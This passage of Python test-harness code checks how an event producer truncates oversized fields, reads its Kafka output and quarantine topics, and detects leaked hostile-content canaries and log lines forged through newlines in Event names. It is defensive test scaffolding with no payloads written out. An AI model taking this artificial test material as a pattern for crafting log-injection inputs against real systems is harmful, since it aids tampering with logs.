    def object(self, before: dict[str, Any], after: Any, path: str) -> None:
        if not isinstance(after, dict):
            self.problems.append(f"{path}: an object became {type(after).__name__}")
            return
        names = {}
        for key, value in before.items():
            name = cut_text(key, STRING_MAX_BYTES)
            names[name] = key
            child = f"{path}.{name}" if path else name
            if name != key:
                self.expected[child, utf8_size(key)] += 1
            self.walk(value, after.get(name, _MISSING), child)
        extra = set(after) - set(names)
        if extra:
            self.problems.append(f"{path or 'the Event'}: fields added: {sorted(extra)[:5]}")

    def string(self, before: str, after: Any, path: str) -> None:
        limit = MESSAGE_MAX_BYTES if path in MESSAGE_PATHS else STRING_MAX_BYTES
        if not isinstance(after, str):
            self.problems.append(f"{path}: a string became {type(after).__name__}")
        elif utf8_size(before) <= limit:
            if after != before:
                self.problems.append(f"{path}: changed though within its bound of {limit} bytes")
        elif original_size(after) != utf8_size(before):
            self.problems.append(
                f"{path}: {utf8_size(before)} bytes (bound {limit}) not cut with the marker "
                f"(published {utf8_size(after)} bytes ending {after[-60:]!r})"
            )
        else:
            self.expected[path, utf8_size(before)] += 1
            if utf8_size(after) > limit:
                self.problems.append(f"{path}: cut to {utf8_size(after)} bytes, over its bound of {limit}")
            if not before.startswith(CUT_MARKER_PATTERN.sub("", after)):
                self.problems.append(f"{path}: what was kept is not the start of the original")


def _resolve(value: Any, path: str) -> Any:
    """The value at a dotted path whose keys may themselves hold dots (annotation keys do)."""
    if not path:
        return value
    if isinstance(value, list):
        found = re.match(r"\[(\d+)\]\.?", path)
        if found and int(found.group(1)) < len(value):
            return _resolve(value[int(found.group(1))], path[found.end() :])
        return _MISSING
    if not isinstance(value, dict):
        return _MISSING
    for key in sorted(value, key=len, reverse=True):
        name = cut_text(key, STRING_MAX_BYTES)
        if path == name:
            return value[key]
        for sep in (".", "["):
            if path.startswith(name + sep):
                rest = path[len(name) + (1 if sep == "." else 0) :]
                found = _resolve(value[key], rest)
                if found is not _MISSING:
                    return found
    return _MISSING


# --- reading what the producer wrote -------------------------------------------------------------


@dataclass
class Topics:
    """What the producer wrote to events.raw and events.invalid, read as it arrives."""

    raw: list[tuple[RawEnvelope, int]] = field(default_factory=list)
    quarantined: list[QuarantineRecord] = field(default_factory=list)


def collect(
    bootstrap: str,
    *,
    raw_topic: str,
    invalid_topic: str,
    done: Callable[[Topics], bool],
    timeout: float,
    settle: float = 3.0,
) -> Topics:
    """Read both topics from the beginning until ``done`` holds, then ``settle`` seconds more
    (the window in which a doubled record would show up), or until ``timeout``."""
    consumer = Consumer(
        {
            "bootstrap.servers": bootstrap,
            "group.id": f"hostile-reader-{uuid.uuid4().hex}",
            "auto.offset.reset": "earliest",
            "enable.auto.commit": False,
            "isolation.level": "read_committed",
        }
    )
    consumer.subscribe([raw_topic, invalid_topic])
    topics = Topics()
    deadline = time.monotonic() + timeout
    settle_until: float | None = None
    try:
        while time.monotonic() < deadline and (settle_until is None or time.monotonic() < settle_until):
            message = consumer.poll(0.2)
            if message is not None and not message.error():
                value = message.value() or b""
                if message.topic() == raw_topic:
                    topics.raw.append((decode(value, RawEnvelope), len(value)))
                else:
                    topics.quarantined.append(decode(value, QuarantineRecord))
            elif settle_until is None and done(topics):
                settle_until = time.monotonic() + settle
    finally:
        consumer.close()
    return topics


def occurrence_line(stored: Stored) -> str:
    """How an occurrence is named in a failure message (identity only)."""
    meta = stored.obj["metadata"]
    name = str(meta["name"])[:80]
    return f"{stored.category}: {meta['namespace']}/{name!r} uid {stored.uid} rv {meta['resourceVersion']}"


def content_canaries(text: str) -> list[str]:
    """The canaries of hostile content found in ``text`` (a log): identity only may be logged."""
    return sorted(set(re.findall(rf"{CANARY}-\d{{4}}", text)))


def forged_lines(log: str) -> list[str]:
    """Lines of ``log`` an Event wrote by putting a newline in its name."""
    return [line for line in log.splitlines() if line.startswith(FORGED)]
